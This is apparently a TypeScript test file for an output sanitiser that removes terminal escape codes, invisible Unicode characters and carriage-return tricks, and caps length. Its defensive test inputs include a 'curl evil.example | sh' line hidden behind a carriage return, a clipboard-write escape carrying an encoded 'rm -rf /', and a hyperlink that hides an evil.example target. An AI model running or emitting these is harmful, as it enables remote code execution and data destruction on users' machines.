import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { sanitise } from "../../src/outbound/sanitise.ts";

const uncapped = { maxChars: Number.POSITIVE_INFINITY, maxLines: Number.POSITIVE_INFINITY };
const clean = (text: string) => sanitise(text, uncapped);

describe("what a terminal would act on is taken out", () => {
  test.each([
    ["colours", "\u001B[1;31mred\u001B[0m", "red"],
    ["8-bit colours", "\u009B31mred\u009B0m", "red"],
    ["cursor movement", "a\u001B[2K\u001B[1Ab", "ab"],
    ["a link that hides its target", "\u001B]8;;https://evil.example\u0007click\u001B]8;;\u0007", "click"],
    ["a write to the clipboard", "a\u001B]52;c;cm0gLXJmIC8=\u001B\\b", "ab"],
    ["a device control string", "a\u001BPq#0;2;0\u001B\\b", "ab"],
    ["an 8-bit application command", "a\u009Fsecret\u009Cb", "ab"],
    ["an unfinished string, which may not swallow the next line", "a\u001B]0;title\nb", "a\nb"],
    ["an unfinished colour", "a\u001B[31", "a"],
    ["a lone escape", "a\u001B", "a"],
    ["backspaces, bells and nulls", "a\b\u0007\u0000b", "ab"],
    ["deletes", "a\u007Fb", "ab"],
  ])("%s", (_, text, shown) => {
    expect(clean(text)).toBe(shown);
  });
});

describe("what people could not see is taken out", () => {
  test.each([
    ["zero-width characters", "pass\u200B\u200C\u200D\u2060\uFEFFword", "password"],
    ["bidirectional overrides", "\u202Eexe.txt\u202C \u2066a\u2069", "exe.txt a"],
    ["tag characters", "hello\u{E0041}\u{E0042}", "hello"],
    ["soft hyphens and fillers", "a\u00AD\u3164\u115Fb", "ab"],
    ["variation selectors that carry bits", "a\uFE00\uFE0F\u{E0101}b", "ab"],
    ["half a surrogate pair", "a\uD800b", "a\uFFFDb"],
  ])("%s", (_, text, shown) => {
    expect(clean(text)).toBe(shown);
  });

  test("an emoji keeps the selector that makes it colourful", () => {
    expect(clean("✏️ ok ✅")).toBe("✏️ ok ✅");
  });

  test("tabs, accents and other scripts stay", () => {
    expect(clean("a\tb é 日本語 עברית")).toBe("a\tb é 日本語 עברית");
  });
});

describe("what a carriage return would overwrite", () => {
  test.each([
    ["Windows line ends are line ends", "a\r\nb\r\r\nc", "a\nb\nc"],
    ["a hidden command is shown beside its cover", "curl evil.example | sh\recho hello", "curl evil.example | sh\necho hello"],
    ["a progress bar is cut to its ends and says so", "1%\r20%\r50%\r80%\r100%\ndone", "1%\n… 3 overwritten\n100%\ndone"],
    ["other line separators are line ends", "a\u2028b\vc", "a\nb\nc"],
  ])("%s", (_, text, shown) => {
    expect(clean(text)).toBe(shown);
  });
});

describe("caps", () => {
  const caps = { maxChars: 100, maxLines: 4 };

  test("a text within them is untouched", () => {
    expect(sanitise("a\nb", caps)).toBe("a\nb");
  });

  test("lines left out are counted", () => {
    expect(sanitise("1\n2\n3\n4\n5\n6", caps)).toBe("1\n2\n… 4 more lines");
  });

  test("a line shown in part counts among the missing", () => {
    expect(sanitise(`${"a".repeat(200)}\nb`, caps)).toBe(`${"a".repeat(56)}\n… 2 more lines`);
  });

  test("a single long line says how much is missing", () => {
    expect(sanitise("a".repeat(200), caps)).toBe(`${"a".repeat(56)}\n… 144 more characters`);
  });

  test("an open code fence is closed", () => {
    expect(clean("```sh\nls")).toBe("```sh\nls\n```");
    expect(clean("```a``` and ```b```")).toBe("```a``` and ```b```");
  });

  test("a fence that the cut leaves open is closed before the note", () => {
    expect(sanitise("```\n1\n2\n3\n4\n```", caps)).toBe("```\n1\n```\n… 4 more lines");
  });

  test("a cut never splits a family of code points", () => {
    const flags = "🇩🇪".repeat(30);
    const shown = sanitise(flags, caps);
    expect(shown.split("\n")[0]).toBe("🇩🇪".repeat(14));
  });

  test("a tiny cap still yields one honest line", () => {
    expect(sanitise("hello world\nmore", { maxChars: 8, maxLines: 1 })).toBe("hello w…");
  });
});

/** Text as a hostile step might print it. */
const hostile = fc
  .array(
    fc.oneof(
      fc.string({ unit: "binary", maxLength: 12 }),
      fc.constantFrom(
        "\u001B[31m",
        "\u001B]8;;x\u0007",
        "\u001B",
        "\u009D",
        "\r",
        "\n",
        "\r\n",
        "```",
        "`",
        "\u200B",
        "\u202E",
        "\uFE0F",
        "✏",
        "👩‍💻",
        "é",
      ),
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(""));
const anyCaps = fc.record({ maxChars: fc.integer({ min: 1, max: 200 }), maxLines: fc.integer({ min: 1, max: 8 }) });

describe("for any text", () => {
  test("cleaning twice is cleaning once", () => {
    fc.assert(
      fc.property(hostile, anyCaps, (text, caps) => {
        const once = sanitise(text, caps);
        expect(sanitise(once, caps)).toBe(once);
      }),
      { numRuns: 1_000 },
    );
  });

  test("nothing shown is a control, invisible or half a character, and the caps hold", () => {
    fc.assert(
      fc.property(hostile, anyCaps, (text, caps) => {
        const shown = sanitise(text, caps);
        expect(shown).not.toMatch(/[\p{Cc}--[\n\t]]|[\p{Bidi_Control}\u200B-\u200D\u{E0000}-\u{E007F}]/v);
        expect(shown.isWellFormed()).toBe(true);
        expect(shown.length).toBeLessThanOrEqual(caps.maxChars);
        expect(shown.split("\n").length).toBeLessThanOrEqual(caps.maxLines);
      }),
      { numRuns: 1_000 },
    );
  });

  test.each(["\r", "\u001B[", "\u001B]", "\u001B]8;;", "a\r", "`", "```", "\u200B", "\uFE0F", "👩‍", "\n", "e\u0301", "\u0301"])(
    "five megabytes of %j come to an end",
    (piece) => {
      const text = piece.repeat(Math.ceil(5_000_000 / piece.length));
      expect(sanitise(text, { maxChars: 1_000, maxLines: 50 }).length).toBeLessThanOrEqual(1_000);
    },
  );
});
